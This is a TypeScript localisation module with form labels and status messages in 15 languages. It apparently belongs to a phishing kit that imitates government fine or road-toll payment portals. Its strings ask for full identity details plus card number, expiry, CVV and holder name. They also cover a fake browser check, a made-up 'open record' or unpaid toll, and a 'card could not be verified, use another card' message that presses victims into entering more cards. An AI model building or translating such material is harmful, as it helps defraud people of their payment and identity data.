/** The names of the labels that forms have in each language. */
const KEYS = [
  'name',
  'birth',
  'street',
  'zip',
  'city',
  'phone',
  'mail',
  'card',
  'expiry',
  'cvv',
  'holder',
  'plate',
  'ref',
  'next',
  'amount',
  'until',
  'secure',
  'wait',
  'checking',
  'found',
  'failed',
  'privacy',
  'imprint',
  'access',
  'contact',
  'home',
  'services',
  'news',
  'personal',
  'payment',
  'rights',
] as const

export type Label = (typeof KEYS)[number]
export type Labels = Readonly<Record<Label, string>>

const ROWS = {
  en: 'Full name|Date of birth|Address|ZIP / Postcode|City|Phone number|Email address|Card number|Expiry date|CVV|Name on card|License plate number|Reference number|Continue|Amount|Pay by|Your information is transmitted over an encrypted connection.|Please wait, we are processing your request…|Checking your browser before you continue…|One open record was found.|Your card could not be verified. Please check the details or use another card.|Privacy policy|Terms of use|Accessibility|Contact us|Home|Services|News|Personal details|Payment details|All rights reserved',
  de: 'Vor- und Nachname|Geburtsdatum|Straße und Hausnummer|PLZ|Ort|Mobilnummer|E-Mail-Adresse|Kartennummer|Gültig bis|Prüfziffer (CVV)|Karteninhaber|Kfz-Kennzeichen|Aktenzeichen|Weiter|Betrag|Zahlbar bis|Ihre Daten werden verschlüsselt übertragen.|Bitte warten, Ihre Angaben werden geprüft …|Ihr Browser wird überprüft …|Es wurde ein offener Vorgang gefunden.|Die Karte konnte nicht bestätigt werden. Bitte prüfen Sie Ihre Angaben.|Datenschutz|Impressum|Barrierefreiheit|Kontakt|Startseite|Leistungen|Aktuelles|Persönliche Angaben|Zahlungsdaten|Alle Rechte vorbehalten',
  fr: 'Nom et prénom|Date de naissance|Adresse|Code postal|Ville|Numéro de téléphone|Adresse électronique|Numéro de carte|Date d’expiration|Cryptogramme|Titulaire de la carte|Numéro d’immatriculation|Numéro de dossier|Continuer|Montant|À régler avant le|Connexion sécurisée : vos données sont chiffrées.|Veuillez patienter, traitement en cours…|Vérification de votre navigateur…|Un dossier en attente a été trouvé.|Votre carte n’a pas pu être vérifiée. Merci d’en utiliser une autre.|Données personnelles|Mentions légales|Accessibilité : partiellement conforme|Nous contacter|Accueil|Démarches|Actualités|Vos coordonnées|Moyen de paiement|Tous droits réservés',
  es: 'Nombre y apellidos|Fecha de nacimiento|Dirección|Código postal|Localidad|Teléfono móvil|Correo electrónico|Número de tarjeta|Fecha de caducidad|CVV|Titular de la tarjeta|Matrícula|Número de expediente|Continuar|Importe|Fecha límite|Sus datos viajan cifrados.|Espere, estamos procesando su solicitud…|Comprobando su navegador…|Se ha encontrado un expediente pendiente.|No se ha podido verificar la tarjeta. Revise los datos.|Protección de datos|Aviso legal|Accesibilidad|Contacto|Inicio|Trámites|Noticias|Datos personales|Datos de pago|Todos los derechos reservados',
  it: 'Nome e cognome|Data di nascita|Indirizzo|CAP|Comune|Numero di cellulare|Indirizzo e-mail|Numero della carta|Scadenza|CVV|Intestatario della carta|Targa|Numero pratica|Prosegui|Importo|Da pagare entro|I dati sono trasmessi in forma cifrata.|Attendere, elaborazione in corso…|Verifica del browser in corso…|È stata trovata una pratica aperta.|Non è stato possibile verificare la carta. Controllare i dati inseriti.|Privacy|Note legali|Dichiarazione di accessibilità|Contatti|Home|Servizi|Notizie|Dati anagrafici|Dati della carta|Tutti i diritti riservati',
  pt: 'Nome completo|Data de nascimento|Endereço|Código postal|Cidade|Telemóvel|E-mail|Número do cartão|Validade|CVV|Nome no cartão|Matrícula|Número de referência|Continuar|Valor|Data limite|Os seus dados são transmitidos de forma segura.|Aguarde, estamos a processar o pedido…|A verificar o seu navegador…|Foi encontrado um registo pendente.|Não foi possível validar o cartão. Verifique os dados.|Privacidade|Termos e condições|Acessibilidade|Contactos|Início|Serviços|Notícias|Dados pessoais|Dados de pagamento|Todos os direitos reservados',
  nl: 'Voor- en achternaam|Geboortedatum|Straat en huisnummer|Postcode|Woonplaats|Mobiel nummer|E-mailadres|Kaartnummer|Vervaldatum|CVC|Naam kaarthouder|Kenteken|Kenmerk|Volgende|Bedrag|Betalen vóór|Uw gegevens worden versleuteld verzonden.|Een ogenblik geduld, we verwerken uw gegevens…|Uw browser wordt gecontroleerd…|Er staat één zaak open.|Uw kaart kon niet worden gecontroleerd. Probeer een andere kaart.|Privacy|Proclaimer|Toegankelijkheid|Contact|Home|Onderwerpen|Nieuws|Uw gegevens|Betaalgegevens|Alle rechten voorbehouden',
  pl: 'Imię i nazwisko|Data urodzenia|Adres|Kod pocztowy|Miejscowość|Numer telefonu|Adres e-mail|Numer karty|Data ważności|Kod CVV|Właściciel karty|Numer rejestracyjny|Numer sprawy|Dalej|Kwota|Termin płatności|Połączenie jest szyfrowane.|Proszę czekać, trwa przetwarzanie…|Sprawdzanie przeglądarki…|Znaleziono jedną otwartą sprawę.|Nie udało się zweryfikować karty. Sprawdź dane.|Polityka prywatności|Regulamin|Deklaracja dostępności|Kontakt|Strona główna|Usługi|Aktualności|Dane osobowe|Dane karty|Wszelkie prawa zastrzeżone',
  sv: 'För- och efternamn|Födelsedatum|Gatuadress|Postnummer|Ort|Mobilnummer|E-post|Kortnummer|Giltigt till|CVC|Kortinnehavare|Registreringsnummer|Ärendenummer|Fortsätt|Belopp|Betalas senast|Dina uppgifter skickas krypterat.|Vänta, vi behandlar dina uppgifter…|Kontrollerar din webbläsare…|Ett öppet ärende hittades.|Kortet kunde inte verifieras. Kontrollera uppgifterna.|Personuppgifter|Om webbplatsen|Tillgänglighet|Kontakt|Start|Tjänster|Nyheter|Dina uppgifter|Kortuppgifter|Alla rättigheter förbehållna',
  da: 'Fulde navn|Fødselsdato|Adresse|Postnr.|By|Mobilnummer|E-mail|Kortnummer|Udløbsdato|Kontrolcifre|Kortholder|Nummerplade|Sagsnummer|Fortsæt|Beløb|Betales senest|Dine oplysninger sendes krypteret.|Vent venligst, vi behandler dine oplysninger…|Din browser kontrolleres…|Der blev fundet én åben sag.|Kortet kunne ikke bekræftes. Kontrollér oplysningerne.|Privatlivspolitik|Om siden|Tilgængelighed|Kontakt|Forside|Selvbetjening|Nyheder|Dine oplysninger|Kortoplysninger|Alle rettigheder forbeholdes',
  nb: 'Fullt navn|Fødselsdato|Adresse|Postnummer|Sted|Mobilnummer|E-post|Kortnummer|Utløpsdato|CVC|Kortholder|Registreringsnummer|Referanse|Gå videre|Beløp|Betalingsfrist|Opplysningene sendes kryptert.|Vent litt, vi behandler opplysningene…|Nettleseren din kontrolleres…|Vi fant én ubetalt passering.|Kortet kunne ikke bekreftes. Sjekk opplysningene.|Personvern|Vilkår|Tilgjengelighetserklæring|Kontakt oss|Forsiden|Tjenester|Aktuelt|Personopplysninger|Betaling|Alle rettigheter reservert',
  fi: 'Etu- ja sukunimi|Syntymäaika|Katuosoite|Postinumero|Postitoimipaikka|Puhelinnumero|Sähköposti|Kortin numero|Voimassa|CVV|Kortinhaltija|Rekisteritunnus|Asianumero|Jatka|Summa|Eräpäivä|Tietosi lähetetään salattuna.|Odota, tietojasi käsitellään…|Selainta tarkistetaan…|Yksi avoin asia löytyi.|Korttia ei voitu vahvistaa. Tarkista tiedot.|Tietosuoja|Käyttöehdot|Saavutettavuusseloste|Ota yhteyttä|Etusivu|Asiointi|Ajankohtaista|Henkilötiedot|Maksutiedot|Kaikki oikeudet pidätetään',
  cs: 'Jméno a příjmení|Datum narození|Ulice a číslo|PSČ|Obec|Telefon|E-mail|Číslo karty|Platnost do|CVV|Držitel karty|Registrační značka|Číslo jednací|Pokračovat|Částka|Uhradit do|Vaše údaje jsou přenášeny šifrovaně.|Čekejte, zpracováváme vaše údaje…|Kontrolujeme váš prohlížeč…|Byl nalezen jeden neuhrazený záznam.|Kartu se nepodařilo ověřit. Zkontrolujte údaje.|Ochrana osobních údajů|O webu|Prohlášení o přístupnosti|Kontakty|Úvod|Služby|Aktuality|Osobní údaje|Platební karta|Všechna práva vyhrazena',
  ro: 'Nume și prenume|Data nașterii|Adresa|Cod poștal|Localitatea|Telefon|E-mail|Numărul cardului|Data expirării|CVV|Titularul cardului|Număr de înmatriculare|Număr dosar|Continuă|Suma|Termen de plată|Datele sunt transmise criptat.|Așteptați, cererea este în curs de procesare…|Se verifică browserul…|A fost găsit un dosar neachitat.|Cardul nu a putut fi verificat. Verificați datele.|Confidențialitate|Termeni și condiții|Accesibilitate|Contact|Acasă|Servicii|Noutăți|Date personale|Date card|Toate drepturile rezervate',
  ja: 'お名前|生年月日|ご住所|郵便番号|市区町村|電話番号|メールアドレス|カード番号|有効期限|セキュリティコード|カード名義|車両番号|お客様番号|次へ|金額|お支払期限|お客様の情報は暗号化して送信されます。|処理中です。しばらくお待ちください…|ブラウザを確認しています…|未処理の明細が1件見つかりました。|カードを確認できませんでした。入力内容をご確認ください。|個人情報保護方針|利用規約|ウェブアクセシビリティ|お問い合わせ|ホーム|手続き|お知らせ|お客様情報|お支払い情報|無断転載を禁じます',
} as const

export type Tongue = keyof typeof ROWS

export function labelsOf(tongue: Tongue): Labels {
  const texts = ROWS[tongue].split('|')
  return Object.fromEntries(KEYS.map((key, index) => [key, texts[index] ?? key])) as Record<Label, string>
}
